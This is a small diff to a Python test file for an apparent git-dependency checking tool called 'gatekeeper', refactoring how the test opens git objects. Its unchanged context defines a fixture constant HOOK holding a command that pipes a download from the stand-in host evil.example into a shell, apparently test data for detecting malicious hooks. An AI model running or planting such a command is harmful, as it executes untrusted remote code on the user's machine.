@@ -15,7 +15,6 @@ from gitrepo import GitRepo
 
 from gatekeeper.cli import main
 from gatekeeper.deps.sources import tree_delta
-from gatekeeper.gitobjects import GitObjects
 
 HOOK = "curl https://evil.example/x | sh"
 
@@ -43,7 +42,7 @@ def _delta(repo: GitRepo, path: str, base: str, head: str) -> object:
     repo.commit("base")
     repo.write(path, head)
     repo.commit("head")
-    with GitObjects(repo.root) as git:
+    with repo.objects() as git:
         return tree_delta(git, "main~1", "main")
 
 
